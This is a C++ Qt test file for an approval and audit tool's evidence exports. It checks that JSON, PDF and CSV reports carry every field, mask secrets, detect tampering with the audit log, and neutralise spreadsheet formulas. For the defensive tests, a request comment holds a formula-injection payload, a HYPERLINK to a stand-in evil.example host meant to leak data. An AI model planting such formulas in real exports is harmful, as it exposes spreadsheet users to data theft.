#include <QJsonDocument>
#include <QProcess>
#include <QtTest>
#include <core/execution/execution.h>
#include <core/policy/reasonwords.h>
#include <core/views/csv.h>
#include <core/views/evidence.h>
#include <core/views/periodreport.h>
#include <report/evidencereport.h>
#include <report/periodreportpdf.h>
#include <support/testworkspace.h>

using namespace cs;

namespace {

const QString kCanary = QStringLiteral("CANARY-7f3a-secret");
const QString kHostileComment
    = QStringLiteral("=HYPERLINK(\"http://evil.example/?leak\",\"click\"), with \"quotes\"\nand a second line");

QString pdfText(const QString& path)
{
    QProcess p;
    p.start(QStringLiteral("pdftotext"), { QStringLiteral("-layout"), path, QStringLiteral("-") });
    if (!p.waitForFinished(60000) || p.exitCode() != 0)
        qFatal("pdftotext failed on %s (poppler-utils: packaging/install-deps.sh)", qPrintable(path));
    return QString::fromUtf8(p.readAllStandardOutput());
}

} // namespace

// The evidence an auditor takes away: one request's document (JSON and PDF), and the period report
// (CSV and PDF). Every field is there, no secret is, and no cell can run in a spreadsheet.
class TestEvidence : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void init();
    void cleanup();
    void evidenceJsonHoldsEveryField();
    void evidencePdfHasTheRequestOnItsPages();
    void evidencePdfReadsStoredReasonsInTheReadersLanguage();
    void periodCsvRoundTripsAndNeutralisesFormulas();
    void periodPdfHasCoverAndOneSectionPerRequest();
    void periodPdfCoverNamesStatesInTheReadersLanguage();
    void periodReportIsForAuditorsOnly();
    void periodReportReadsEachRequestAsItsEvidenceDoes();
    void csvCellsAreQuotedAndNeutralised();

private:
    RequestEvidence evidenceOf(qint64 id);
    PeriodReport period(const PeriodFilter& filter);
    std::unique_ptr<TestWorkspace> t;
    QTemporaryDir dir;
    qint64 executed = 0;
    qint64 pending = 0;
};

void TestEvidence::init()
{
    t = std::make_unique<TestWorkspace>();
    buildStandardDirectory(*t);
    t->action(actionWithPolicy(R"({"rules":[{"name":"two-phase","phases":[
        {"name":"Technical","approve":{"group":"approvers"}},
        {"name":"Security","approve":{"group":"security"}}]}]})"));
    auto r = t->ws().requests().submit(QStringLiteral("req"),
                                       { QStringLiteral("act"),
                                         { { QStringLiteral("count"), 3 },
                                           { QStringLiteral("note"), QStringLiteral("rotate, \"carefully\"") },
                                           { QStringLiteral("pin"), kCanary } },
                                         { QStringLiteral("test1") },
                                         kHostileComment },
                                       SubmitMode::RequestApproval);
    QVERIFY2(r.ok(), qPrintable(r.error().message));
    executed = r->id;
    t->clock.advanceSecs(60);
    QVERIFY(t->ws().requests().decide(QStringLiteral("alice"), executed, true, QStringLiteral("ok")).ok());
    t->clock.advanceSecs(60);
    QVERIFY(t->ws().requests().decide(QStringLiteral("carol"), executed, true, {}).ok());
    auto plan = t->ws().executions().claim(executed, QStringLiteral("a1"), QStringLiteral("token-a1"));
    QVERIFY2(plan.ok(), qPrintable(plan.error().message));
    TestWorkspace::must(t->ws().executions().recordStart(executed, QStringLiteral("a1")), "start");
    TestWorkspace::must(t->ws().executions().appendOutput(executed, QStringLiteral("rotated 3 keys\n")), "output");
    t->clock.advanceSecs(5);
    TestWorkspace::must(t->ws().executions().finish(executed, QStringLiteral("a1"), ExecutionState::Succeeded, 0, {}),
                        "finish");
    auto second = t->ws().requests().submit(
        QStringLiteral("req"), { QStringLiteral("act"), {}, { QStringLiteral("prod1") }, QStringLiteral("-2+3") },
        SubmitMode::RequestApproval);
    QVERIFY(second.ok());
    pending = second->id;
}

void TestEvidence::cleanup()
{
    t.reset();
}

RequestEvidence TestEvidence::evidenceOf(qint64 id)
{
    auto e = collectEvidence(t->db(), t->ws().requests(), t->ws().executions(), t->ws().directory(), t->clock,
                             QStringLiteral("audit"), id);
    if (!e.ok())
        qFatal("evidence: %s", qPrintable(e.error().message));
    return *e;
}

PeriodReport TestEvidence::period(const PeriodFilter& filter)
{
    auto report = collectPeriodReport(t->db(), t->ws().auditService(), t->ws().requests(), t->ws().executions(),
                                      t->ws().directory(), t->clock, QStringLiteral("audit"), filter);
    if (!report.ok())
        qFatal("period report: %s", qPrintable(report.error().message));
    return *report;
}

void TestEvidence::evidenceJsonHoldsEveryField()
{
    const QJsonObject e = Json::evidence(evidenceOf(executed));
    QCOMPARE(e.value(QStringLiteral("generatedBy")).toString(), QStringLiteral("audit"));

    const QJsonObject r = e.value(QStringLiteral("request")).toObject();
    QCOMPARE(r.value(QStringLiteral("id")).toInteger(), executed);
    QCOMPARE(r.value(QStringLiteral("requester")).toString(), QStringLiteral("req"));
    QVERIFY(!r.value(QStringLiteral("createdAt")).toString().isEmpty());
    QCOMPARE(r.value(QStringLiteral("action")).toString(), QStringLiteral("act"));
    QCOMPARE(r.value(QStringLiteral("actionVersion")).toInt(), 1);
    QCOMPARE(r.value(QStringLiteral("scriptDigest")).toString().size(), 64);
    QCOMPARE(r.value(QStringLiteral("scriptDigest")).toString(), r.value(QStringLiteral("versionDigest")).toString());
    QCOMPARE(r.value(QStringLiteral("comment")).toString(), kHostileComment);
    QCOMPARE(r.value(QStringLiteral("state")).toString(), QStringLiteral("succeeded"));
    const QJsonObject params = r.value(QStringLiteral("parameters")).toObject();
    QCOMPARE(params.value(QStringLiteral("count")).toInt(), 3);
    QCOMPARE(params.value(QStringLiteral("pin")).toString(), QStringLiteral("********"));

    const QJsonArray targets = e.value(QStringLiteral("targets")).toArray();
    QCOMPARE(targets.size(), 1);
    QCOMPARE(targets.at(0).toObject().value(QStringLiteral("name")).toString(), QStringLiteral("test1"));
    QCOMPARE(
        targets.at(0).toObject().value(QStringLiteral("attributes")).toObject().value(QStringLiteral("environment")),
        QJsonValue(QStringLiteral("test")));

    const QJsonObject policy = e.value(QStringLiteral("policy")).toObject();
    QCOMPARE(policy.value(QStringLiteral("rule")).toString(), QStringLiteral("two-phase"));
    QCOMPARE(policy.value(QStringLiteral("phases")).toArray().size(), 2);

    const QJsonArray decisions = e.value(QStringLiteral("decisions")).toArray();
    QCOMPARE(decisions.size(), 2);
    const QStringList approvers { QStringLiteral("alice"), QStringLiteral("carol") };
    const QStringList phases { QStringLiteral("Technical"), QStringLiteral("Security") };
    for (int i = 0; i < 2; ++i) {
        const QJsonObject d = decisions.at(i).toObject();
        QCOMPARE(d.value(QStringLiteral("approver")).toString(), approvers.at(i));
        QCOMPARE(d.value(QStringLiteral("verdict")).toString(), QStringLiteral("approve"));
        QCOMPARE(d.value(QStringLiteral("phase")).toInt(), i + 1);
        QCOMPARE(d.value(QStringLiteral("phaseName")).toString(), phases.at(i));
        QVERIFY(!d.value(QStringLiteral("basis")).toArray().isEmpty()); // the membership that made it count
        QCOMPARE(d.value(QStringLiteral("requestDigest")).toString(), r.value(QStringLiteral("digest")).toString());
        QVERIFY(d.value(QStringLiteral("digestMatchesRequest")).toBool());
        QVERIFY(!d.value(QStringLiteral("decidedAt")).toString().isEmpty());
    }

    const QJsonObject x = e.value(QStringLiteral("execution")).toObject();
    QCOMPARE(x.value(QStringLiteral("agent")).toString(), QStringLiteral("a1"));
    QCOMPARE(x.value(QStringLiteral("state")).toString(), QStringLiteral("succeeded"));
    QCOMPARE(x.value(QStringLiteral("exitCode")).toInt(-1), 0);
    QVERIFY(!x.value(QStringLiteral("startedAt")).toString().isEmpty());
    QVERIFY(!x.value(QStringLiteral("finishedAt")).toString().isEmpty());
    QCOMPARE(x.value(QStringLiteral("outputExcerpt")).toString(), QStringLiteral("rotated 3 keys\n"));

    QVERIFY(e.value(QStringLiteral("revocation")).isNull());
    const QJsonArray trail = e.value(QStringLiteral("auditTrail")).toArray();
    QVERIFY(trail.size() >= 6);
    QCOMPARE(trail.at(0).toObject().value(QStringLiteral("event")).toString(), QStringLiteral("request.submitted"));
    const QJsonObject v = e.value(QStringLiteral("verification")).toObject();
    QVERIFY(v.value(QStringLiteral("intact")).toBool());
    QCOMPARE(v.value(QStringLiteral("entriesChecked")).toInteger(), trail.size());

    QVERIFY(!QJsonDocument(e).toJson().contains(kCanary.toUtf8()));

    // A broken chain is the evidence's own verdict, named.
    QVERIFY(t->db()
                .exec(QStringLiteral("UPDATE audit_log SET actor = 'mallory' WHERE chain = ? AND chain_seq = 2"),
                      { executed })
                .ok());
    const QJsonObject broken = Json::evidence(evidenceOf(executed)).value(QStringLiteral("verification")).toObject();
    QVERIFY(!broken.value(QStringLiteral("intact")).toBool());
    QVERIFY(broken.value(QStringLiteral("problem")).toString().contains(QLatin1String("was altered")));
}

void TestEvidence::evidencePdfHasTheRequestOnItsPages()
{
    const QString path = dir.filePath(QStringLiteral("evidence.pdf"));
    QVERIFY(report::writeEvidencePdf(path, Json::evidence(evidenceOf(executed))).ok());
    const QString text = pdfText(path);
    for (const QString& expected :
         { QStringLiteral("Evidence for request #%1").arg(executed), QStringLiteral("Script digest"),
           QStringLiteral("two-phase"), QStringLiteral("Technical"), QStringLiteral("Security"),
           QStringLiteral("alice"), QStringLiteral("carol"), QStringLiteral("Digest approved"),
           QStringLiteral("Exit code"), QStringLiteral("rotated 3 keys"), QStringLiteral("Not revoked."),
           QStringLiteral("request.submitted"), QStringLiteral("Intact"), QStringLiteral("environment") })
        QVERIFY2(text.contains(expected), qPrintable(expected));
    QVERIFY(!text.contains(kCanary));
    // Numbered pages: the last page's number stands alone at its foot.
    const QStringList pages = text.split(QLatin1Char('\f'), Qt::SkipEmptyParts);
    QVERIFY(!pages.isEmpty());
    QVERIFY2(pages.last().trimmed().endsWith(QString::number(pages.size())), qPrintable(pages.last().right(80)));
}

// Why a vote counted and why a request needed none are stored in English, and the JSON evidence
// keeps them so (it is what the chain hashes); the printable evidence reads them in the reader's
// language.
void TestEvidence::evidencePdfReadsStoredReasonsInTheReadersLanguage()
{
    t->action(
        actionWithPolicy(R"({"approvalRequired":true,"approverGroups":["approvers"],"bypassGroups":["bypass"]})"));
    auto bypassed = t->ws().requests().submit(
        QStringLiteral("dave"), { QStringLiteral("act"), {}, { QStringLiteral("test1") }, QStringLiteral("urgent") },
        SubmitMode::RunDirect);
    QVERIFY2(bypassed.ok(), qPrintable(bypassed.error().message));
    t->action(actionWithPolicy(R"({"approvalRequired":false})"));
    auto unneeded = t->ws().requests().submit(
        QStringLiteral("req"), { QStringLiteral("act"), {}, { QStringLiteral("test1") }, QStringLiteral("routine") },
        SubmitMode::RunDirect);
    QVERIFY2(unneeded.ok(), qPrintable(unneeded.error().message));
    const QJsonObject decided = Json::evidence(evidenceOf(executed));
    const QJsonObject skipped = Json::evidence(evidenceOf(bypassed->id));
    const QJsonObject waived = Json::evidence(evidenceOf(unneeded->id));
    const QString rule = waived.value(QStringLiteral("request"))
                             .toObject()
                             .value(QStringLiteral("bypass"))
                             .toObject()
                             .value(QStringLiteral("rule"))
                             .toString();
    QVERIFY(!rule.isEmpty());

    QTranslator german;
    QVERIFY(german.load(QStringLiteral(":/i18n/countersign_core_de.qm")));
    QCoreApplication::installTranslator(&german);
    const auto english = qScopeGuard([&german] { QCoreApplication::removeTranslator(&german); });

    const QString decidedHtml = report::evidenceHtml(decided);
    QVERIFY2(decidedHtml.contains(QLatin1String("Mitglied der Gruppe approvers")), qPrintable(decidedHtml));
    QVERIFY2(decidedHtml.contains(QLatin1String("Mitglied der Gruppe security")), qPrintable(decidedHtml));
    QVERIFY(!decidedHtml.contains(QLatin1String("member of group")));
    // The request's and the run's state in words, not their codes.
    QVERIFY2(decidedHtml.contains(QLatin1String("<td>erfolgreich</td>")), qPrintable(decidedHtml));
    QVERIFY(!decidedHtml.contains(QLatin1String("<td>succeeded</td>")));
    const QString skippedHtml = report::evidenceHtml(skipped);
    const QString stored = ReasonWords::storedBypass(ReasonWords::Bypass::BypassGroup);
    QVERIFY2(skippedHtml.contains(QStringLiteral("Mitglied der Gruppe ohne Genehmigungspflicht (bypass)")),
             qPrintable(skippedHtml));
    QVERIFY(!skippedHtml.contains(stored));
    // A request no policy phase applied to names the rule that waived approval.
    const QString waivedHtml = report::evidenceHtml(waived);
    QVERIFY2(waivedHtml.contains(QStringLiteral("(Regel %1)").arg(rule)), qPrintable(waivedHtml));

    // The JSON evidence keeps the stored words.
    const QJsonObject basis = decided.value(QStringLiteral("decisions"))
                                  .toArray()
                                  .first()
                                  .toObject()
                                  .value(QStringLiteral("basis"))
                                  .toArray()
                                  .first()
                                  .toObject();
    QCOMPARE(basis.value(QStringLiteral("reason")).toString(), QStringLiteral("member of group approvers"));
    QCOMPARE(skipped.value(QStringLiteral("request"))
                 .toObject()
                 .value(QStringLiteral("bypass"))
                 .toObject()
                 .value(QStringLiteral("reason"))
                 .toString(),
             stored);
}

void TestEvidence::periodCsvRoundTripsAndNeutralisesFormulas()
{
    PeriodFilter filter;
    filter.from = 0;
    filter.to = t->clock.nowMs() + 1;
    const PeriodReport report = period(filter);
    QCOMPARE(report.requests.size(), 2);
    const QByteArray csv = Csv::document(Json::periodRows(report));
    QVERIFY(csv.startsWith("\xEF\xBB\xBF"));
    QVERIFY(!csv.contains(kCanary.toUtf8()));
    const QString path = dir.filePath(QStringLiteral("period.csv"));
    QFile file(path);
    QVERIFY(file.open(QIODevice::WriteOnly));
    file.write(csv);
    file.close();

    // Python's csv module, as a spreadsheet import would read it.
    QProcess python;
    python.start(QStringLiteral("python3"),
                 { QStringLiteral("-c"),
                   QStringLiteral("import csv, json, sys\n"
                                  "with open(sys.argv[1], newline='', encoding='utf-8-sig') as f:\n"
                                  "    print(json.dumps(list(csv.reader(f))))\n"),
                   path });
    QVERIFY(python.waitForFinished(30000));
    QCOMPARE(python.exitCode(), 0);
    const QJsonArray rows = QJsonDocument::fromJson(python.readAllStandardOutput()).array();
    QCOMPARE(rows.size(), 3);
    const QJsonArray header = rows.at(0).toArray();
    const int comment = header.toVariantList().indexOf(QStringLiteral("comment"));
    const int state = header.toVariantList().indexOf(QStringLiteral("state"));
    const int approvals = header.toVariantList().indexOf(QStringLiteral("approvals"));
    const int exitCode = header.toVariantList().indexOf(QStringLiteral("exit_code"));
    QVERIFY(comment >= 0 && state >= 0 && approvals >= 0 && exitCode >= 0);
    const QJsonArray first = rows.at(1).toArray();
    QCOMPARE(first.size(), header.size());
    QCOMPARE(first.at(comment).toString(), QLatin1Char('\'') + kHostileComment); // whole, and inert
    QCOMPARE(first.at(state).toString(), QStringLiteral("succeeded"));
    QVERIFY(first.at(approvals).toString().contains(QLatin1String("alice")));
    QVERIFY(first.at(approvals).toString().contains(QLatin1String("carol")));
    QCOMPARE(first.at(exitCode).toString(), QStringLiteral("0"));
    QCOMPARE(rows.at(2).toArray().at(comment).toString(), QStringLiteral("'-2+3"));

    // Filters: one target, one state.
    filter.target = QStringLiteral("prod1");
    QCOMPARE(period(filter).requests.size(), 1);
    filter.target.clear();
    filter.state = QStringLiteral("succeeded");
    QCOMPARE(period(filter).requests.size(), 1);
    QCOMPARE(period(filter).totals.value(QStringLiteral("succeeded")), 1);
}

void TestEvidence::periodPdfHasCoverAndOneSectionPerRequest()
{
    PeriodFilter filter;
    filter.to = t->clock.nowMs() + 1;
    filter.action = QStringLiteral("act");
    const QString path = dir.filePath(QStringLiteral("period.pdf"));
    QVERIFY(report::writePeriodReportPdf(path, Json::periodReport(period(filter))).ok());
    const QString text = pdfText(path);
    const QStringList pages = text.split(QLatin1Char('\f'), Qt::SkipEmptyParts);
    QVERIFY(pages.size() >= 3); // the cover, then a section per request
    const QString& cover = pages.first();
    for (const QString& expected :
         { QStringLiteral("Countersign period report"), QStringLiteral("Totals by state"), QStringLiteral("succeeded"),
           QStringLiteral("pending"), QStringLiteral("action = act"), QStringLiteral("audit"),
           QStringLiteral("Intact") })
        QVERIFY2(cover.contains(expected), qPrintable(expected));
    QVERIFY(!cover.contains(QLatin1String("Evidence for request")));
    QVERIFY(text.contains(QStringLiteral("Evidence for request #%1").arg(executed)));
    QVERIFY(text.contains(QStringLiteral("Evidence for request #%1").arg(pending)));
    QVERIFY(!text.contains(kCanary));
}

void TestEvidence::periodPdfCoverNamesStatesInTheReadersLanguage()
{
    QTranslator core;
    QTranslator labels;
    QVERIFY(core.load(QStringLiteral(":/i18n/countersign_core_de.qm")));
    QVERIFY(labels.load(QStringLiteral(":/i18n/countersign_report_de.qm")));
    QCoreApplication::installTranslator(&core);
    QCoreApplication::installTranslator(&labels);
    const auto english = qScopeGuard([&] {
        QCoreApplication::removeTranslator(&core);
        QCoreApplication::removeTranslator(&labels);
    });
    PeriodFilter filter;
    filter.to = t->clock.nowMs() + 1;
    filter.state = QStringLiteral("pending");
    const QString path = dir.filePath(QStringLiteral("period-de.pdf"));
    QVERIFY(report::writePeriodReportPdf(path, Json::periodReport(period(filter))).ok());
    // NFKC: the PDF's fonts set "ff" as one ligature.
    const QString cover
        = pdfText(path).normalized(QString::NormalizationForm_KC).split(QLatin1Char('\f'), Qt::SkipEmptyParts).value(0);
    for (const QString& expected :
         { QStringLiteral("Summen nach Status"), QStringLiteral("offen"), QStringLiteral("= offen") })
        QVERIFY2(cover.contains(expected), qPrintable(expected + QStringLiteral(" in: ") + cover));
    QVERIFY2(!cover.contains(QLatin1String("pending")), qPrintable(cover));
}

void TestEvidence::periodReportIsForAuditorsOnly()
{
    PeriodFilter filter;
    filter.to = t->clock.nowMs() + 1;
    auto refused = collectPeriodReport(t->db(), t->ws().auditService(), t->ws().requests(), t->ws().executions(),
                                       t->ws().directory(), t->clock, QStringLiteral("req"), filter);
    QVERIFY(!refused.ok());
    QCOMPARE(refused.error().code, Error::Code::Forbidden);
    // Evidence of a request follows who may read it: its requester may, a stranger may not.
    QVERIFY(collectEvidence(t->db(), t->ws().requests(), t->ws().executions(), t->ws().directory(), t->clock,
                            QStringLiteral("req"), executed)
                .ok());
    QVERIFY(!collectEvidence(t->db(), t->ws().requests(), t->ws().executions(), t->ws().directory(), t->clock,
                             QStringLiteral("owner1"), executed)
                 .ok());
}

// The period report reads its requests in bulk: each must come out exactly as the one-request
// evidence reads it (the CSV and PDF are made from these), a broken chain included.
void TestEvidence::periodReportReadsEachRequestAsItsEvidenceDoes()
{
    auto trail = t->ws().audit().entries(pending);
    QVERIFY(trail.ok() && !trail->isEmpty());
    QVERIFY(t->db()
                .exec(QStringLiteral("UPDATE audit_log SET actor = 'mallory' WHERE seq = ?"), { trail->first().seq })
                .ok());
    for (const QString& action : { QString(), QStringLiteral("act") }) {
        PeriodFilter filter;
        filter.to = t->clock.nowMs() + 1;
        filter.action = action;
        const PeriodReport bulk = period(filter);
        QVERIFY(bulk.requests.size() >= 2);
        PeriodReport oneByOne = bulk;
        oneByOne.requests.clear();
        bool sawBroken = false;
        for (const RequestEvidence& e : bulk.requests) {
            oneByOne.requests.append(evidenceOf(e.details.request.id));
            QCOMPARE(Json::evidence(e), Json::evidence(oneByOne.requests.last()));
            sawBroken = sawBroken || !e.chain.intact;
        }
        QVERIFY(sawBroken);
        QCOMPARE(Json::periodRows(bulk), Json::periodRows(oneByOne));
        QCOMPARE(Json::periodReport(bulk), Json::periodReport(oneByOne));
    }
}

void TestEvidence::csvCellsAreQuotedAndNeutralised()
{
    QCOMPARE(Csv::cell(QStringLiteral("plain")), QStringLiteral("plain"));
    QCOMPARE(Csv::cell(QStringLiteral("a,b")), QStringLiteral("\"a,b\""));
    QCOMPARE(Csv::cell(QStringLiteral("say \"hi\"")), QStringLiteral("\"say \"\"hi\"\"\""));
    QCOMPARE(Csv::cell(QStringLiteral("two\nlines")), QStringLiteral("\"two\nlines\""));
    for (const char* formula : { "=1+1", "+1", "-1", "@SUM(A1)", "\tx" })
        QCOMPARE(Csv::cell(QString::fromLatin1(formula)), QLatin1Char('\'') + QString::fromLatin1(formula));
    QCOMPARE(Csv::document({ { QStringLiteral("a"), QStringLiteral("b") } }),
             QByteArray("\xEF\xBB\xBF"
                        "a,b\r\n"));
}

QTEST_MAIN(TestEvidence)
#include "tst_evidence.moc"
